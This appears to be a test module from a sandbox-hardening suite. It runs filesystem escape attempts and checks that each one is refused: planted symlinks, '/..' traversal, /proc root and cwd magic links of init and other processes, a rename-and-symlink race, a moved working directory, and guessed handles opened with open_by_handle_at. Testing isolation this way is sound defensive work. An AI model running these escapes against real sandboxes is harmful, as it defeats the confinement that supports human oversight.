"""Links, magic links and races on names that lead out of the sandbox (S11, S12)."""

import os
import threading
import time

from hostile import Refused, attack, attempt, code, family, main, outside, read_token

PLANTED = ["absolute", "relative", "init_root", "self_root", "self_cwd", "daemon_root", "hard"]


@family("link", {name: name for name in PLANTED})
def planted_link(name):
    """A link that lies in the code directory."""
    with attempt("open"):
        return read_token(code(f"planted/{name}"))


@attack
def link_in_layer():
    with attempt("open"):
        return read_token(os.path.join(os.environ["HOSTILE_LAYER"], "absolute"))


@attack
def dots():
    with attempt("open"):
        return read_token("/.." * 64 + outside())


@attack
def magic_links():
    """Root, working directory and descriptors of every process that can be seen, and of init."""
    pids = ["1", *(name for name in os.listdir("/proc") if name.isdigit())]
    for pid in pids:
        for link in ("root", "cwd", "fd/0", "fd/1", "map_files", "task/1/root"):
            try:
                return read_token(f"/proc/{pid}/{link}" + "/.." * 40 + outside())
            except (OSError, Refused):
                continue
    raise Refused("no process leads outside")


@attack
def exchange_race():
    """A directory and a link take each other's place while a path through them is opened."""
    place = f"/tmp/race-{os.getpid()}"
    os.makedirs(f"{place}/a")
    os.symlink("/proc/self/root" + "/.." * 40, f"{place}/b")
    exchanges = opens = 0
    stop = threading.Event()

    def exchange():
        nonlocal exchanges
        while not stop.is_set():
            os.rename(f"{place}/a", f"{place}/c")
            os.rename(f"{place}/b", f"{place}/a")
            os.rename(f"{place}/c", f"{place}/b")
            exchanges += 1
            # One whole open in either state, however the threads are scheduled; the others meet the exchange anywhere.
            seen = opens
            while opens < seen + 2 and not stop.is_set():
                time.sleep(0.0002)

    racer = threading.Thread(target=exchange)
    racer.start()
    try:
        while racer.is_alive() and (exchanges < 300 or opens < 3000):
            try:
                return read_token(f"{place}/a{outside()}")
            except (OSError, Refused):
                opens += 1
        if exchanges < 300:
            raise RuntimeError("the exchange ended")
        raise Refused(f"{opens} opens, {exchanges} exchanges: nothing outside")
    finally:
        stop.set()
        racer.join()


@attack
def moved_directory():
    """A working directory that is moved out from under the root of its path keeps its `..`."""
    place = f"/tmp/moved-{os.getpid()}"
    os.makedirs(f"{place}/a/b/c")
    os.chdir(f"{place}/a/b/c")
    os.rename(f"{place}/a/b", f"{place}/b")
    with attempt("walk up"):
        return read_token("../" * 40 + outside())


@attack
def handle():
    """A file handle that was guessed, opened through any descriptor of the same file system."""
    import ctypes

    from hostile import syscall

    kind, _, text = os.environ["HOSTILE_HANDLE"].partition(":")
    raw = bytes.fromhex(text)
    guess = len(raw).to_bytes(4, "little") + int(kind).to_bytes(4, "little", signed=True) + raw
    mount = os.open(code("."), os.O_RDONLY)
    with attempt("open_by_handle_at"):
        file = syscall(304, mount, ctypes.create_string_buffer(guess), os.O_RDONLY)
        from hostile import token_in

        return token_in(os.read(file, 4096))


main()
